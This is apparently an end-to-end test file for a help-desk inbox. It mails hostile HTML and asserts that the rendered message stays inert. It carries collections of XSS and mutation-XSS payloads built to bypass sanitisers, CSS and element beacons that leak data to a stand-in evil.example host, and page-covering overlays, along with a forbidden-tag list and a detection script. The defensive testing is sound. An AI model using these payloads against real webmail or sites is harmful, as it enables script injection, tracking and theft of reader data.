"""Mails made to harm whoever reads them, and the browser that opens them, with what it did wrong."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from email.message import EmailMessage
from typing import Any
from urllib.parse import urlsplit

from playwright.async_api import FrameLocator, Locator, Page, Request, expect

from tests.desk import Desk
from tests.e2e.outside import Agent, mail, send_mail, until

ADDRESS = "support@paleohacks.example"
EVIL = "https://evil.example"
RUN = "top.pwned=1;parent.pwned=1;window.pwned=1;alert(1)"

HTML = f"""<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/style.css"><style>@import url({EVIL}/import.css); body {{
background: url({EVIL}/body.png) }} @font-face {{ font-family: x; src: url({EVIL}/font.woff) }}</style>
<script>{RUN}</script><script src="{EVIL}/a.js"></script></head>
<body onload="{RUN}" background="{EVIL}/background.png">
<p style="background-image: url('{EVIL}/p.png'); font-family: x">You should see this.</p>
<img src="{EVIL}/pixel.gif" onerror="{RUN}" width=1 height=1><img src=x onerror="{RUN}">
<img srcset="{EVIL}/srcset.png 2x"><picture><source srcset="{EVIL}/source.png"><img></picture>
<svg onload="{RUN}"><image href="{EVIL}/svg.png"/><script>{RUN}</script></svg>
<table width="600" bgcolor="#ffeedd"><tr><td>A designed letter</td></tr></table>
<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><video src="{EVIL}/video" autoplay></video>
<audio src="{EVIL}/audio" autoplay></audio><input type=image src="{EVIL}/input.png" autofocus onfocus="{RUN}">
<form action="{EVIL}/form"><button>Sign in again</button></form>
<a href="javascript:{RUN}">script link</a> <a href=" &#1;java&#9;script:{RUN}">hidden script link</a>
<a href="data:text/html,<script>{RUN}</script>">data link</a> <a href="{EVIL}/page">web link</a>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">over all</div>
<div style="width:9000px">wide</div><p>{"W" * 3000}</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></body></html>"""
"""Everything at once."""

_IMG = f"<img src=1 onerror={RUN}>"
MUTATIONS = {
    "math and style": f"<math><mtext><table><mglyph><style><math><img title='</style>{_IMG}'></table></mtext></math>",
    "svg and style": f"<svg></p><style><a id='</style>{_IMG}'></a></style></svg>",
    "form in form": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "annotation": f"<math><annotation-xml encoding='text/html'><style><img title='</style>{_IMG}'></style></math>",
    "noscript": f"<noscript><p title='</noscript>{_IMG}'>",
    "template": f"<template><style><a title='</style></template>{_IMG}'></style></template>",
    "foreign object": f"<svg><foreignObject><p><style><!--</style>{_IMG}--></style></p></foreignObject></svg>",
    "select": f"<select><template><style><a title='</style></template></select>{_IMG}'>",
    "comment": f"<!--><script>{RUN}</script>--><!-- --!>{_IMG}<![CDATA[{_IMG}]]>",
    "plaintext": f"<xmp><p title='</xmp>{_IMG}'></xmp><noembed><a title='</noembed>{_IMG}'><title>&lt;/title>{_IMG}",
    "deep": "<div>" * 600 + f"<svg><style><a title='</style>{_IMG}'>" + "</div>" * 600,
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;<a href='&#106avascript:{RUN}'>x</a>"
    f"<a href='jav\tascript:{RUN}'>x</a>",
    "nothing closed": f"<p title=\"<img src='1' onerror='{RUN}'",
    "handlers": f"<details open ontoggle={RUN}><p onpointerrawupdate={RUN} onfocus={RUN} tabindex=0 autofocus>x"
    f"</details><style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={RUN}>x</b>"
    f"<marquee onstart={RUN}>x</marquee>",
    "clobbering": "<form id=body><input name=attributes></form><img name=cookie><a id=location href=x>"
    "<a name=currentScript><iframe name=top></iframe><output name=firstChild>",
    "svg animation": f"<svg><a xlink:href='javascript:{RUN}'><animate attributeName=href values='javascript:{RUN}'/>"
    f"</a></svg><svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg><math href='javascript:{RUN}'>x</math>",
}
"""Each turns into something else when it is parsed a second time, or is none of what sanitisers look for."""

EXFILTRATION = f"""<p style="background:url({EVIL}/1.png)">x</p><p style="background:\\75rl({EVIL}/2.png)">x</p>
<p style="background:u/**/rl({EVIL}/3.png)">x</p><p style="background-image:image-set('{EVIL}/4.png' 1x)">x</p>
<p style="list-style-image:url({EVIL}/5.png)">x</p><p style="cursor:url({EVIL}/6.cur),auto">x</p>
<p style="border-image:url({EVIL}/7.png) 1;border-image-source:url({EVIL}/8.png)">x</p>
<p style="content:url({EVIL}/9.png);filter:url({EVIL}/10.svg#x);mask:url({EVIL}/11.svg#x)">x</p>
<p style="width:expression({RUN});behavior:url({EVIL}/12.htc);-moz-binding:url({EVIL}/13.xml#x)">x</p>
<p style="color:var(--x,url({EVIL}/14.png));font-family:'x;}}</style>{_IMG}'">x</p>
<style>*{{background:url({EVIL}/15.png)}}input[value^=a]{{background:url({EVIL}/16.png)}}
@font-face{{font-family:y;src:url({EVIL}/17.woff);unicode-range:U+0041}}p{{font-family:y}}</style>
<link rel=preload as=image href={EVIL}/18.png><link rel=dns-prefetch href={EVIL}><link rel=prerender href={EVIL}/19>
<table background="{EVIL}/20.png"><tr background="{EVIL}/21.png"><td background="{EVIL}/22.png">A</td></tr></table>
<img lowsrc="{EVIL}/23.png" dynsrc="{EVIL}/24.png" longdesc="{EVIL}/25" usemap="#m">
<map name=m><area href={EVIL}/26></map>
<video poster="{EVIL}/27.png"></video><track src="{EVIL}/28"><img src="//evil.example/29.png">
<img src="\\\\evil.example/30">
<a href="{EVIL}/31" ping="{EVIL}/32">x</a><blockquote cite="{EVIL}/33">x</blockquote><portal src="{EVIL}/34"></portal>
<div style="position:absolute;inset:0;z-index:9999">cover</div><div style="margin:-9999px">moved</div>
<div style="transform:scale(99);opacity:.01;position:sticky;top:-99px">cover</div>"""
"""Every way that a style or an element has to ask for something, or to lie over the page."""

FORBIDDEN = (
    "script,style,link,meta,base,form,input,button,select,textarea,iframe,frame,object,embed,applet,svg,math,video,"
    "audio,source,track,template,noscript,area,map,portal,marquee,xmp,plaintext,dialog"
)
LOOK = """
(body, forbidden) => {
  const known = /^(https?:|mailto:|tel:|data:image|data:,)/;
  const all = [...body.querySelectorAll("*")];
  const attributes = all.flatMap((one) => [...one.attributes].map((each) => [one.tagName, each.name, each.value]));
  return [
    ...[...body.querySelectorAll(forbidden)].map((one) => one.outerHTML.slice(0, 200)),
    ...attributes.filter(([, name]) => /^on|^(id|name|srcset|srcdoc|background|ping|action|is|slot)$/.test(name)),
    ...attributes.filter(([, name, value]) => /^(href|src)$/.test(name) && !known.test(value)),
    ...attributes.filter(([, name, value]) => name === "style" && /url|position|expression|image|@/i.test(value)),
    ...all.filter((one) => /fixed|absolute|sticky/.test(getComputedStyle(one).position)).map((one) => one.outerHTML),
  ].map(String);
}
"""


@dataclass
class Watched:
    """A page and what it should not have done."""

    page: Page
    desk: Desk
    faults: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._ours = {
            urlsplit(one).netloc for one in (self.desk.web, self.desk.ingest, self.desk.shop, self.desk.messenger)
        }
        self.page.on("request", self._asked)
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("popup", lambda other: self.faults.append(f"opened {other.url}"))
        self.page.on("dialog", lambda dialog: self.faults.append(f"said {dialog.message}"))
        self.page.on("download", lambda file: self.faults.append(f"saved {file.url}"))

    def _asked(self, request: Request) -> None:
        if urlsplit(request.url).netloc not in self._ours and not request.url.startswith(("data:", "blob:", "about:")):
            self.faults.append(f"asked for {request.url}")

    @property
    def timeline(self) -> Locator:
        return self.page.get_by_role("region", name="Timeline")

    @property
    def frame(self) -> FrameLocator:
        return self.timeline.frame_locator("iframe[title=Message]")

    async def open(self, conversation_id: str) -> None:
        await self.page.goto(f"{self.desk.web}/inbox/all/{conversation_id}")
        await expect(self.timeline.get_by_role("article").first).to_be_visible()

    async def unharmed(self) -> None:
        """Nothing ran, was asked for, opened, moved or covered."""
        assert await self.page.evaluate("window.pwned") is None
        assert await self.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert await self.page.locator(f"[onload],[onerror],[onclick],[src^='{EVIL}']").count() == 0
        assert await self.page.locator("img[src='x'],img[src='1'],body > script:not([src])").count() == 0
        await self.page.get_by_role("textbox", name="Reply").click(timeout=20_000)  # nothing lies over it
        for frame in self.page.frames[1:]:
            assert await frame.evaluate("document.location.href") == "about:srcdoc"
            assert await frame.evaluate(
                "[document.scripts.length, window.pwned ?? null, document.baseURI.startsWith(top.origin)]"
            ) == [0, None, True]
            assert await frame.eval_on_selector("body", LOOK, FORBIDDEN) == []
        assert self.faults == []


async def delivered(desk: Desk, agent: Agent, html: str) -> tuple[str, dict[str, Any]]:
    """The conversation that a mail with this HTML became, and its message."""
    mark = f"hostile{uuid.uuid4().hex[:10]}"
    one = mail(to=ADDRESS, subject=mark, text="Plain", sender=f"{mark}@customer.example")
    one.add_alternative(html, subtype="html")
    return await kept(desk, agent, one, mark)


async def kept(desk: Desk, agent: Agent, one: EmailMessage, mark: str) -> tuple[str, dict[str, Any]]:
    """The conversation of a mail whose subject contains `mark`."""
    await send_mail(desk.smtp, one)

    async def arrived() -> str | None:
        listed = await agent.get("/api/tickets/conversations", inbox="all", status="all", sort="newest", limit=40)
        return next((one["head"]["id"] for one in listed["items"] if mark in one["head"]["subject"]), None)

    conversation_id: str = await until(arrived)
    (first, *_) = await agent.timeline(conversation_id)
    return conversation_id, first["data"]["message"]
